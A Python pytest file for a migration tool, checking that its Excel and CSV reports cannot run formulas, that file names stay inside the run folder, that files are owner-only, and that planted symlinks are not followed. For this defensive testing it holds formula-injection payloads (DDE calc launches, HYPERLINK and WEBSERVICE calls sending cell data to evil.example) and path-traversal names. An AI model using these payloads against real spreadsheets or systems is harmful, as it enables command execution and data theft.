"""What a run leaves behind: nothing that a spreadsheet program would run, nothing outside its folder, nothing that
others may read, whatever configurations and groups are called and whatever the service says."""

from __future__ import annotations

import asyncio
import os
import re
import stat
import sys
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from openpyxl import load_workbook

from migrator.journal.folder import RunFolder, find_run, make_folder, new_run_id
from migrator.journal.learned import path_of, remember
from migrator.journal.lock import locked
from migrator.journal.log import open_log
from migrator.mapping.load import load
from migrator.mapping.writers.annotate import annotate
from migrator.model.errors import RunNotFound, UsageError
from migrator.reporting.write import write_reports
from migrator.simulator.description import tenant_from_json
from migrator.simulator.settings import Fault, Faults
from tests.mapping.sheets import xlsx
from tests.reporting.records import configuration, configuration_plan, plan, record
from tests.whole import world

RUN_BY_EXCEL = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\t=1+1",
    '=WEBSERVICE("http://evil.example")',
    "http://evil.example/a",
    "file:///etc/passwd",
    "mailto:a@evil.example",
    "internal:'Summary'!A1",
    "external:evil.xlsx",
    "<r>=1+1</r>",
    "{=1+1}",
    "_x0000_=1",
)
LEAD_ELSEWHERE = (
    "../../x",
    "..\\..\\y",
    "/etc/passwd",
    "C:\\Windows\\x",
    "CON",
    "nul.txt",
    "…",
    "dots. . .",
    "\u202egnp.exe",
    "n" * 300,
    "Case",
    "CASE",
    "%2e%2e%2fz",
    "~$lock",
)
posix = pytest.mark.skipif(sys.platform == "win32", reason="on Windows the profile's own folder keeps others out")


@dataclass
class Left:
    """What is left of a run, and which files others could have read while it went on."""

    home: Path
    folder: RunFolder
    readable: set[str] = field(default_factory=set)


@contextmanager
def watched(home: Path) -> Iterator[set[str]]:
    """Looks at every file of the runs again and again, for one that others may read."""
    readable: set[str] = set()
    ended = threading.Event()

    def look() -> None:
        while not ended.wait(0.0005):
            for path in (home / "reports").glob("*/**/*"):
                try:
                    mode = path.lstat().st_mode
                except OSError:
                    continue
                if mode & 0o077:
                    readable.add(f"{path.name} {stat.filemode(mode)}")

    thread = threading.Thread(target=look)
    thread.start()
    try:
        yield readable
    finally:
        ended.set()
        thread.join()


async def _run(home: Path) -> RunFolder:
    names = (*RUN_BY_EXCEL, *LEAD_ELSEWHERE)
    kind = "configurationPolicies"
    tenant = tenant_from_json(
        {
            "groups": [*(f"{name} old" for name in names), *RUN_BY_EXCEL],
            "configurations": [
                {"kind": kind, "name": name, "description": name, "assignments": [f"{name} old"]} for name in names
            ],
        }
    )
    faults = Faults(planned_writes=dict.fromkeys(RUN_BY_EXCEL[::2], (Fault.FORBIDDEN,)))
    ids = {c.name: c.id for c in tenant.every_configuration()}
    groups = {group.name: identity for identity, group in tenant.groups.items()}
    rows = [
        (ids[name], groups[f"{name} old"], groups[RUN_BY_EXCEL[n % len(RUN_BY_EXCEL)]], "", name)
        for n, name in enumerate(names)
    ]
    async with world(tenant, home, faults=faults) as there:
        headings = ("Configuration id", "Legacy group id", "New group id", "Action", "Comment")
        result = await there.run(rows, headings)
    return result.folder


@pytest.fixture(scope="module")
def left(tmp_path_factory: pytest.TempPathFactory) -> Left:
    home = tmp_path_factory.mktemp("home")
    before = os.umask(0)
    try:
        with watched(home) as readable:
            folder = asyncio.run(_run(home))
    finally:
        os.umask(before)
    return Left(home, folder, readable)


def workbooks(left: Left) -> list[Path]:
    found = sorted(left.folder.path.rglob("*.xlsx"))
    assert {path.name for path in found} >= {"plan.xlsx", "summary.xlsx", "retry.xlsx"}
    assert len(found) == 3 + len(RUN_BY_EXCEL) + len(LEAD_ELSEWHERE)
    return found


def check_workbook(path: Path) -> int:
    """That nothing in it is run or leads away; gives the number of cells that begin like something to be run."""
    armed = 0
    with zipfile.ZipFile(path) as archive:
        assert not [name for name in archive.namelist() if re.search("externalLink|vba|macro|embed|activeX", name)]
        for name in archive.namelist():
            part = archive.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(r"<f[\s>/]|ddeLink|oleObject|<webPublish", part), (path.name, name)
            if name.endswith(".rels"):
                for tag in re.findall(r"<Relationship [^>]*External[^>]*>", part):
                    goal = re.search(r'Target="([^"]*)"', tag)
                    assert goal
                    assert re.fullmatch(r"(\.\.[/\\])?(configurations[/\\])?[^/\\:]+\.xlsx", goal[1]), (path.name, tag)
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                armed += isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t"))
    return armed


def test_no_workbook_of_a_run_holds_anything_that_is_run(left: Left) -> None:
    assert sum(map(check_workbook, workbooks(left))) > 50


def test_nor_does_a_marked_copy(tmp_path: Path) -> None:
    rows = [("Policy", "Old group", "New group"), *((name, name, "") for name in RUN_BY_EXCEL), ("", "=1", "@x")]
    sources = [xlsx(tmp_path / "mapping.xlsx", {"+1": rows, "@SUM": rows})]
    sources.append(tmp_path / "mapping.csv")
    sources[1].write_text("\n".join(",".join(f'"{c.replace(chr(34), chr(34) * 2)}"' for c in r) for r in rows), "utf-8")
    for source in sources:
        copy = tmp_path / f"copy-of-{source.suffix[1:]}.xlsx"
        annotate(source, load(source).findings, copy)
        assert check_workbook(copy) > 10


def test_names_that_lead_elsewhere_stay_in_the_folder(left: Left) -> None:
    assert {path.name for path in left.home.iterdir()} == {"reports", "mapping.csv"}
    assert {path.name for path in (left.home / "reports").iterdir()} == {left.folder.id}
    names = [path.name for path in left.folder.configurations.iterdir()]
    assert len({name.casefold() for name in names}) == len(RUN_BY_EXCEL) + len(LEAD_ELSEWHERE)
    for name in names:
        assert not re.search(r'[<>:"/\\|?*\x00-\x1f\u202e]|^[.~ ]|[. ]\.xlsx$', name), name
        assert name.partition(".")[0].casefold() not in ("con", "nul")
        assert len(name) < 130


@posix
def test_nobody_else_could_read_any_of_it_even_while_it_was_written(left: Left) -> None:
    assert left.readable == set()
    for path in (left.folder.path, *left.folder.path.rglob("*")):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path.name


@posix
def test_what_was_learned_is_its_owners_only(tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        assert remember("scope", 0.0, {"writes": {"a": 1}}, tmp_path / "learned")
    finally:
        os.umask(before)
    kept = path_of("scope", tmp_path / "learned")
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    assert stat.S_IMODE(kept.parent.stat().st_mode) == 0o700


@pytest.mark.parametrize("name", ["../../etc", "C:\\x", "\0", "…", "\u202e", "n" * 500, "CON", "", "a/b", ".", " . "])
def test_a_tenants_name_in_a_runs_id_is_a_name(name: str) -> None:
    assert re.fullmatch(r"\d{8}-\d{6}-[a-z0-9-]{1,32}", new_run_id(0.0, name))


@pytest.mark.parametrize(
    "name", ["../..", "/", "..", "a\0b", "x" * 5_000, "CON", "*", "\n", "last/../..", "~", "\ud800"]
)
def test_a_run_that_is_none_is_not_found(tmp_path: Path, name: str) -> None:
    with pytest.raises(RunNotFound) as refused:
        find_run(tmp_path / "reports", name)
    assert "\n" not in str(refused.value)


@posix
def test_links_that_somebody_planted_are_not_followed(tmp_path: Path) -> None:
    told = record(plan([configuration_plan(configuration("Policy"))]))
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "file").write_text("precious")
    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "run").symlink_to(precious)
    folder = make_folder(reports, "run")
    assert folder.id == "run-2"
    for name in ("run.lock", "run.log", "summary.part", "summary.xlsx", "retry.xlsx"):
        (folder.path / name).symlink_to(precious / "file")
    with pytest.raises(UsageError, match="cannot be opened"), locked(folder, 0.0):
        pass
    with pytest.raises(UsageError, match="cannot be written"), open_log(folder):
        pass
    folder.configurations.symlink_to(precious)
    with pytest.raises(UsageError, match="leads out of the run's folder"):
        write_reports(told, folder.path)
    folder.configurations.unlink()
    write_reports(told, folder.path)
    folder.protect()
    assert (precious / "file").read_text() == "precious"
    assert [path.name for path in precious.iterdir()] == ["file"]
